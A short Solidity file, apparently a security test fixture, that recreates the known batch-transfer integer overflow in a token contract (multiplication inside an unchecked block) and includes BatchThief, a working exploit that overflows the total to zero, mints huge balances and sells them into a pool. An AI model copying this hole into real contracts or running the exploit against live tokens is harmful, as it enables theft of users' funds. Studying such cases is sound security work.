// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

import {Pool} from "../props/Markets.sol";
import {Token} from "../props/Tokens.sol";

/// Sends the same to many at once, with arithmetic of the time when nothing was checked.
contract BatchToken is Token {
    constructor() Token("BEC", 18) {}

    function batchTransfer(address[] calldata receivers, uint256 value) external returns (bool) {
        unchecked {
            uint256 amount = receivers.length * value;
            require(receivers.length > 0 && receivers.length <= 20, "too many");
            require(value > 0 && balanceOf[msg.sender] >= amount, "too little");
            balanceOf[msg.sender] -= amount;
            for (uint256 i = 0; i < receivers.length; i++) {
                balanceOf[receivers[i]] += value;
                emit Transfer(msg.sender, receivers[i], value);
            }
            return true;
        }
    }
}

contract BatchThief {
    function run(BatchToken token, Pool pool, uint256 sold, address payee) external {
        address[] memory two = new address[](2);
        (two[0], two[1]) = (address(this), payee);
        token.batchTransfer(two, 1 << 255);
        token.approve(address(pool), sold);
        pool.sell(token, sold, payee);
    }
}
